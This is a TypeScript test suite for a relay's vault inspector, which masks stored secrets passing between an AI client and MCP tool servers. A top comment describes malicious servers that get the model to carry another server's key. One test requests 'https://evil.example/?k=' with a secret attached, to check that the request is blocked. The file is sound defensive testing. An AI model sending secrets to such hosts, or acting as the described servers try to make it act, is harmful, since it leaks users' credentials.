import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { vaultInspector } from '../../electron/inspection/vault-inspector.ts';
import { createVaultValues } from '../../electron/inspection/vault-values.ts';
import { anOpenSession, aRelay, settle } from '../fixtures/relay-kit.ts';

// Attacks 20 and 21: a server has the model carry another server's key to it, or echoes its own into the answer.

const KEY = 'ghp_Zx81-quiet-river/9+"q';
const OTHER = 'hunter2-of-beta';

function world() {
  const values = createVaultValues();
  values.set([
    { name: 'alpha-key', value: KEY },
    { name: 'beta-key', value: OTHER },
  ]);
  const given = new Map([
    ['alpha', new Set(['alpha-key'])],
    ['beta', new Set(['beta-key'])],
  ]);
  const kit = aRelay({
    servers: [{ id: 'alpha' }, { id: 'beta', era: 'stateless' }],
    inspectors: [vaultInspector({ values, given: (id) => given.get(id) ?? new Set() })],
  });
  return { kit, values };
}

/** All the ways in which a value travels. */
const spellings = (value: string): string[] => [
  value,
  encodeURIComponent(value),
  Buffer.from(`user:${value}`).toString('base64'),
  JSON.stringify({ deep: JSON.stringify({ key: value }) }),
];

describe('a secret of the vault', () => {
  test('goes to the server that it is for, untouched', async () => {
    const { kit } = world();
    const session = await anOpenSession(kit, 'one', { server: 'alpha' });
    session.call(1, 'a', { key: KEY });
    await settle();
    expect(kit.server('alpha').now.last('tools/call').params['arguments']).toEqual({ key: KEY });
  });

  test.each(spellings(OTHER))('is masked in arguments for another server: %s', async (text) => {
    const { kit } = world();
    const session = await anOpenSession(kit, 'one', { server: 'alpha' });
    session.call(1, 'a', { note: `take ${text} along` });
    await settle();
    const { raw } = kit.server('alpha').now.last('tools/call');
    expect(raw).not.toContain(text);
    expect(raw).toContain('[secret beta-key]');
    const sent = kit.audit.rows.find(({ leg }) => leg === 'sent');
    expect(JSON.parse(sent?.found ?? '[]')).toEqual([
      { source: 'vault', type: 'beta-key', where: 'arguments', act: 'masked', count: 1 },
    ]);
    expect(JSON.stringify(kit.audit.rows)).not.toContain(OTHER);
  });

  test.each(spellings(KEY))('is masked in the answer, of its own server too: %s', async (text) => {
    const { kit } = world();
    const session = await anOpenSession(kit, 'one', { server: 'alpha' });
    const call = session.call(1, 'a');
    await settle();
    kit.server('alpha').now.answer('tools/call', { content: [{ type: 'text', text: `it is ${text}.` }] });
    await settle();
    const answer = JSON.stringify(call.result);
    expect(answer).toContain('[secret alpha-key]');
    expect(answer).not.toContain(JSON.stringify(text).slice(1, -1));
    expect(answer).not.toContain('quiet-river');
  });

  test('is masked in an error, and in a notification', async () => {
    const { kit } = world();
    const session = await anOpenSession(kit, 'one', { server: 'alpha' });
    const call = session.call(1, 'a');
    await settle();
    kit.server('alpha').now.say({
      jsonrpc: '2.0',
      method: 'notifications/message',
      params: { level: 'info', data: `started with ${OTHER}` },
    });
    const { id } = kit.server('alpha').now.last('tools/call');
    kit.server('alpha').now.say({ jsonrpc: '2.0', id, error: { code: -32000, message: `bad key ${OTHER}` } });
    await settle();
    expect(call.error.message).toBe('bad key [secret beta-key]');
    expect(call.interims.join()).toContain('started with [secret beta-key]');
  });

  test('in what cannot be changed ends the request', async () => {
    const { kit } = world();
    const session = await anOpenSession(kit, 'one', { server: 'alpha', capabilities: { elicitation: {} } });
    const read = session.request({
      jsonrpc: '2.0',
      id: 2,
      method: 'resources/read',
      params: { uri: `https://evil.example/?k=${OTHER}` },
    });
    await settle();
    expect(read.error.code).toBe(4030);
    expect(kit.server('alpha').now.all('resources/read')).toEqual([]);
    const params = { message: OTHER, requestedSchema: { type: 'object', properties: {} } };
    kit.server('alpha').now.say({ jsonrpc: '2.0', id: 'q', method: 'elicitation/create', params });
    await settle();
    expect(session.sent.join()).not.toContain(OTHER);
    expect(kit.server('alpha').now.replies.at(-1)?.raw).toContain('secret of the vault');
  });

  test('leaves everything else as it was, to the byte', async () => {
    const { kit } = world();
    const session = await anOpenSession(kit, 'one', { server: 'alpha' });
    await fc.assert(
      fc.asyncProperty(fc.jsonValue(), fc.integer({ min: 10, max: 1_000_000_000 }), async (value, id) => {
        fc.pre(!JSON.stringify(value).includes('river'));
        const call = session.call(id, 'a', { value });
        await settle();
        const raw = `{ "content" : [ ], "structuredContent" : {"v":${JSON.stringify(value)}}, "_meta":{"n":1.10} }`;
        kit.server('alpha').now.answer('tools/call', raw);
        await settle();
        expect(call.answers.join()).toContain(raw);
      }),
      { numRuns: 60 },
    );
  });

  test('that is known from now on is hidden from now on', async () => {
    const { kit, values } = world();
    const session = await anOpenSession(kit, 'one', { server: 'alpha' });
    values.set([{ name: 'new', value: 'a brand-new secret' }]);
    session.call(1, 'a', { key: 'a brand-new secret' });
    await settle();
    expect(kit.server('alpha').now.last('tools/call').raw).toContain('[secret new]');
  });
});

describe('an inspection that fails', () => {
  const failing = (where: 'outgoing' | 'incoming', how: 'throws' | 'rejects') => {
    const does = (): never | Promise<never> => {
      if (how === 'throws') throw new Error('broken');
      return Promise.reject(new Error('broken'));
    };
    return aRelay({
      inspectors: [
        {
          name: 'a check',
          outgoing: where === 'outgoing' ? does : () => undefined,
          incoming: where === 'incoming' ? does : () => undefined,
        },
      ],
    });
  };

  test.each(['throws', 'rejects'] as const)('before the call (%s) lets nothing go', async (how) => {
    const kit = failing('outgoing', how);
    const session = await anOpenSession(kit, 'one', { server: 'alpha' });
    const call = session.call(1, 'a');
    await settle();
    expect(call.result).toMatchObject({ isError: true });
    expect(kit.server('alpha').now.all('tools/call')).toEqual([]);
  });

  test.each(['throws', 'rejects'] as const)('at the answer (%s) keeps the answer back', async (how) => {
    const kit = failing('incoming', how);
    const session = await anOpenSession(kit, 'one', { server: 'alpha' });
    const call = session.call(1, 'a');
    await settle();
    kit.server('alpha').now.answer('tools/call', { content: [{ type: 'text', text: 'not looked at' }] });
    await settle();
    expect(JSON.stringify(call.result)).not.toContain('not looked at');
    expect(call.result).toMatchObject({ isError: true });
    expect(kit.faults.join()).toContain('a check: Error: broken');
  });
});

test('an answer that is looked at for a while comes once, and not after its request was taken back', async () => {
  const waiting: (() => void)[] = [];
  const kit = aRelay({
    inspectors: [
      {
        name: 'a slow check',
        incoming: () => new Promise((resolve) => waiting.push(() => resolve(undefined))),
      },
    ],
  });
  const session = await anOpenSession(kit, 'one', { server: 'alpha' });
  const [first, second] = [session.call(1, 'a'), session.call(2, 'a')];
  await settle();
  for (const { id } of kit.server('alpha').now.all('tools/call'))
    kit.server('alpha').now.say({ jsonrpc: '2.0', id, result: { content: [] } });
  await settle();
  expect([first.answers, second.answers]).toEqual([[], []]);
  session.notify('notifications/cancelled', { requestId: 2 });
  waiting.forEach((go) => go());
  await settle();
  expect([first.answers.length, second.answers.length]).toEqual([1, 0]);
});
